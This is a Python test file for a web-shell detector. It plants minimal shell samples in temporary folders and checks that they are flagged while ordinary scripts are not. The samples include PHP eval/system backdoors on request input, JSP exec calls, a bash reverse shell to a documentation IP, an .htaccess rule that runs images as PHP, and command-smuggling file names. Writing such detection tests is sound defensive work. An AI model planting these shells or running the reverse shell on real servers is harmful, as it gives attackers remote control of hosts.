from __future__ import annotations

import sysconfig
from pathlib import Path

import pytest
from hypothesis import given

from agent.hosts import commands
from checks.fact import Absent, After, Missing
from checks.facts.script_folders import ScriptFolders
from checks.facts.web_shells import WebShells, web_shells
from checks.source import Command
from tests.checks.facts.fuzzing import gives_or_says_why, mixed
from tests.checks.trees import plant

# Written by hand, each the shortest of its kind: harmless without an interpreter, and not copied from anywhere.
SHELLS = {
    "a.php": "<?php @eval($_POST['x']); ?>",
    "b.php": "<?php eval(base64_decode('aGFpCg=='));",
    "c.php": "<?php $_GET['f']($_GET['a']);",
    "d.phtml": '<?php system( $_REQUEST["c"] );',
    "e.php": "<?php preg_replace('/.*/e', $x, '');",
    "f.jsp": '<% Runtime.getRuntime().exec(request.getParameter("c")); %>',
    "g.jspx": '<jsp:scriptlet>new ProcessBuilder(request.getParameter("c").split(" "))</jsp:scriptlet>',
    "h.sh": "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
    "i.py": "os.dup2(s.fileno(),0)",
    "j.php": "<title>WSO Shell</title>",
    ".htaccess": "AddHandler application/x-httpd-php .jpg",
    "k.asp": '<%eval request("x")%>',
    "l.php": "<?php include($_GET['p']);",
    "m.php": "<?php include($_GET['p'] . '.php');",
}
HARMLESS = {
    "play.py": "import os, subprocess\nsubprocess.call(['java', '-version'])\n",
    "spse4.sh": "#!/bin/bash\nexec java -jar x.jar > /dev/null\n",
    "index.php": "<?php echo htmlspecialchars($_GET['q'] ?? ''); require_once __DIR__ . '/lib.php';",
    "form.php": "<?php if (isset($_POST['simpan'])) { simpan($_POST['nama']); }",
    "view.jsp": '<%= request.getParameter("id") %>',
    ".htaccess": "Options -Indexes\nAddHandler application/x-httpd-php .php\n",
    "letter.php": "<?php $evaluation = evaluate($nilai); // the alfa of the letters",
}


def found(**folders: Path) -> WebShells:
    """What the real `find` and `grep` say of real folders."""
    (source,) = web_shells.sources
    assert isinstance(source, After)
    made = source.make(ScriptFolders(**{kind: (str(folder),) for kind, folder in folders.items()}))  # type: ignore[arg-type]
    assert isinstance(made, Command)
    return web_shells.parse(commands.run(made))


@pytest.mark.parametrize("name", SHELLS)
def test_each_kind_of_web_shell_is_found(tmp_path: Path, name: str) -> None:
    shell = plant(tmp_path, f"images/{name}", SHELLS[name])

    assert found(web=tmp_path) == WebShells((str(tmp_path),), 1, 1, (str(shell),))


@pytest.mark.parametrize("name", HARMLESS)
def test_ordinary_scripts_are_left_alone(tmp_path: Path, name: str) -> None:
    plant(tmp_path, name, HARMLESS[name])

    assert found(web=tmp_path) == WebShells((str(tmp_path),), 1)


def test_hundreds_of_ordinary_scripts_raise_no_alarm() -> None:
    result = found(web=Path(sysconfig.get_path("stdlib")))

    assert result.searched > 100
    assert result.paths == ()


def test_a_folder_without_scripts_was_searched_all_the_same(tmp_path: Path) -> None:
    plant(tmp_path, "index.html", SHELLS["a.php"])

    assert found(web=tmp_path) == WebShells((str(tmp_path),), 0)


def test_bid_documents_are_never_opened(tmp_path: Path) -> None:
    plant(tmp_path, "file_prod/Penawaran.php", SHELLS["a.php"])
    plant(tmp_path, "webapp/tmp/uploads/Penawaran.php", SHELLS["a.php"])
    plant(tmp_path, "webapp/public/x.php", SHELLS["a.php"])
    result = found(applications=tmp_path)

    assert (result.searched, result.paths) == (1, (str(tmp_path / "webapp/public/x.php"),))


def test_a_name_cannot_play_a_trick(tmp_path: Path) -> None:
    plant(tmp_path, "-e.php", SHELLS["a.php"])
    plant(tmp_path, "in 0 \n.php", SHELLS["a.php"])
    plant(tmp_path, "$(touch x).php", SHELLS["a.php"])

    assert found(web=tmp_path).total == 3


def test_document_stores_alone_are_not_searched() -> None:
    (source,) = web_shells.sources
    assert isinstance(source, After)
    with pytest.raises(Absent):
        source.make(ScriptFolders(stores=("/home/file",)))


@pytest.mark.parametrize("printed", ["", "seen 0\0", "in 0 /a\0closed 0\0", "in 0 /a\0nonsense\0", "in 0 /a\0/a/x\0"])
def test_other_output_is_missing(printed: str) -> None:
    with pytest.raises(Missing):
        web_shells.parse(printed)


@given(mixed("in 0 /a\0", "seen 0\0", "/a/x.php\0", "closed 0\0"))
def test_any_output_gives_a_fact_or_a_reason(text: str) -> None:
    gives_or_says_why(web_shells, text)
